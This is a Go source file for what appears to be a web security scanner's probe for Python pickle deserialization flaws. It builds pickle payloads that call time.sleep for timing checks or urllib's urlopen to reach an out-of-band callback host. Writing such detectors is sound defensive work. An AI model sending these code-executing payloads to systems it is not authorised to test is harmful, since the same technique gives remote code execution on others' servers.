package probe

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/secaudit/secaudit/internal/finding"
	"github.com/secaudit/secaudit/internal/httpx"
	"github.com/secaudit/secaudit/internal/webscan"
	"github.com/secaudit/secaudit/internal/webscan/oast"
)

// Deserialization finds Python pickle deserialization of parameters and
// cookies. Only values that decode (base64, standard or URL alphabet) to a
// pickle are tested, or every parameter when aggressive. The payload is a
// pickle calling time.sleep(n) (confirmed by confirmDelay against
// time.sleep(0)), or, with the out-of-band listener, urllib's urlopen of a
// callback URL (confirmed by the callback). Neither changes data.
// At most 9 (time) + 1 (callback) requests per parameter.
type Deserialization struct{}

func (*Deserialization) ID() string { return "WEB-DESERIALIZATION" }

// pickleB64 reports whether v is base64 of a pickle, and which alphabet.
func pickleB64(v string) (*base64.Encoding, bool) {
	for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding, base64.RawURLEncoding} {
		b, err := enc.DecodeString(strings.TrimSpace(v))
		if err != nil || len(b) < 2 {
			continue
		}
		// Protocol 2+ starts with PROTO (0x80) and a version; every pickle
		// ends with STOP ('.'). Protocol 0/1 lists and dicts start with
		// '(' or ']' / '}' and end with '.'.
		if b[len(b)-1] == '.' && (b[0] == 0x80 && b[1] >= 2 && b[1] <= 5 || bytes.HasPrefix(b, []byte("(lp")) || bytes.HasPrefix(b, []byte("(dp")) || b[0] == ']' || b[0] == '}') {
			return enc, true
		}
	}
	return nil, false
}

// picklePayload is protocol 0: module and name, arguments tuple, REDUCE.
func pickleSleep(n int) []byte { return []byte(fmt.Sprintf("ctime\nsleep\n(I%d\ntR.", n)) }

func pickleFetch(u string) []byte {
	return []byte(fmt.Sprintf("curllib.request\nurlopen\n(V%s\ntR.", u))
}

func (d *Deserialization) Run(ctx context.Context, ep *webscan.Endpoint, id *webscan.Identity, env *Env, emit webscan.Emit) {
	t := startTarget(ctx, ep, id, env)
	if t == nil {
		return
	}
	var ps []*webscan.Param
	for i := range t.ep.Params {
		ps = append(ps, &t.ep.Params[i]) // session-like cookies too: pickled sessions exist
	}
	for _, p := range ps {
		if p.In == "header" || p.In == "body" || IsCSRFName(p.Name) {
			continue
		}
		enc, ok := pickleB64(p.Value)
		if !ok {
			if !env.Aggressive {
				continue
			}
			enc = base64.StdEncoding
		}
		secs := int(env.delay().Seconds() + 0.5)
		tm := t.confirmDelay(func(sleep bool) (*httpx.Response, error) {
			n := 0
			if sleep {
				n = secs
			}
			return t.with(p, enc.EncodeToString(pickleSleep(n)))
		})
		if tm != nil {
			res := t.result("WEB-DESERIALIZATION", fmt.Sprintf("Unsafe deserialization (pickle) of %s", p.Name), p, tm.proof...)
			res.Confidence = finding.ConfidenceHigh
			res.Facts = []string{fmt.Sprintf("payload: %s = base64(pickle of time.sleep(%d))", p.Name, secs), tm.fact,
				"the server unpickles the value: any Python code can be run this way"}
			emit(res)
			continue
		}
		if env.OAST == nil {
			continue
		}
		tok := oast.NewToken()
		r, err := t.with(p, enc.EncodeToString(pickleFetch(env.OAST.URL(tok))))
		if err != nil {
			continue
		}
		env.await(ctx, tok, func(hits []oast.Hit) {
			res := t.result("WEB-DESERIALIZATION", fmt.Sprintf("Unsafe deserialization (pickle) of %s", p.Name), p, r)
			res.Confidence = finding.ConfidenceHigh
			res.Facts = []string{fmt.Sprintf("payload: %s = base64(pickle of urllib.request.urlopen(%q))", p.Name, env.OAST.URL(tok)),
				"out-of-band callback received: " + hits[0].String()}
			emit(res)
		})
	}
}
